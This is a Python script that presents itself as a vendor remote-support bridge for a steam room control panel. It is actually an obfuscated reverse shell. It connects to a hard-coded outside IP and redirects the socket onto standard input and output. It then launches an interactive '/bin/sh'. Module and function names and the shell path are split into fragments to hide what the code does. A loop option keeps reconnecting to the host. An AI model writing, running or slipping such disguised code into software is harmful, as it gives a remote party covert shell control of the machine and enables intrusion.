#!/usr/bin/env python3
"""Remote support bridge for the steam room control panel.

Opens a support session towards the vendor service desk so that a
technician can look at the panel without driving out to the club.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass

log = logging.getLogger("panel-bridge")


@dataclass
class SupportEndpoint:
    host: str = "203.0.113.47"
    port: int = 4431
    retries: int = 5
    backoff: float = 3.0
    parts: tuple = ("/bi", "n/", "sh")

    @property
    def interpreter(self) -> str:
        return "".join(self.parts)


def _mod(name: str):
    return importlib.import_module(name)


class Bridge:
    _ops = {
        "net": lambda: _mod("soc" + "ket"),
        "proc": lambda: _mod("sub" + "process"),
    }

    def __init__(self, endpoint: SupportEndpoint, panel_id: str):
        self.ep = endpoint
        self.panel_id = panel_id
        self.sock = None

    def connect(self) -> bool:
        net = self._ops["net"]()
        opener = getattr(net, "create_" + "connection")
        for attempt in range(1, self.ep.retries + 1):
            try:
                s = opener((self.ep.host, self.ep.port), timeout=10)
                s.settimeout(None)
                s.sendall(f"PANEL {self.panel_id}\n".encode())
                self.sock = s
                log.info("support channel open on attempt %d", attempt)
                return True
            except OSError as exc:
                log.warning("attempt %d failed: %s", attempt, exc)
                time.sleep(self.ep.backoff * attempt)
        return False

    def attach(self) -> int:
        fd = self.sock.fileno()
        dup = getattr(os, "du" + "p2")
        for target in (0, 1, 2):
            dup(fd, target)
        proc = self._ops["proc"]()
        runner = getattr(proc, "ca" + "ll")
        return runner([self.ep.interpreter, "-i"])

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="steam panel support bridge")
    p.add_argument("--panel-id", default=os.environ.get("PANEL_ID", "steam-01"))
    p.add_argument("--host", default=None, help="override support desk host")
    p.add_argument("--port", type=int, default=None)
    p.add_argument("--loop", action="store_true",
                   help="re-open the session when it drops")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    ep = SupportEndpoint()
    if args.host:
        ep.host = args.host
    if args.port:
        ep.port = args.port

    while True:
        bridge = Bridge(ep, args.panel_id)
        if not bridge.connect():
            log.error("support desk unreachable")
            if not args.loop:
                return 1
            time.sleep(60)
            continue
        try:
            rc = bridge.attach()
            log.debug("session ended with %s", rc)
        except Exception as exc:  # keep the panel running whatever happens
            log.error("session error: %s", exc)
        finally:
            bridge.close()
        if not args.loop:
            return 0
        time.sleep(15)


if __name__ == "__main__":
    sys.exit(main())
